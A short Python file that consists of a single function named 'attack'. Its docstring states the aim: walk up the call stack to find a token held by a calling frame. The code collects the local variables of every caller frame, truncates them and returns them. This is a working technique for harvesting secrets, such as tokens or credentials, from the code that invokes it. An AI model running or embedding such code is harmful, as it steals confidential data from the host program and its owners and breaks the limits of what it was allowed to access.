"""Walk the stack for a caller that knows more. Success: a token in a frame."""

import sys


def attack():
    frame, seen = sys._getframe(), []
    while frame:
        seen += [f"{name}={str(value)[:300]}" for name, value in frame.f_locals.items()]
        frame = frame.f_back
    return seen[:500]
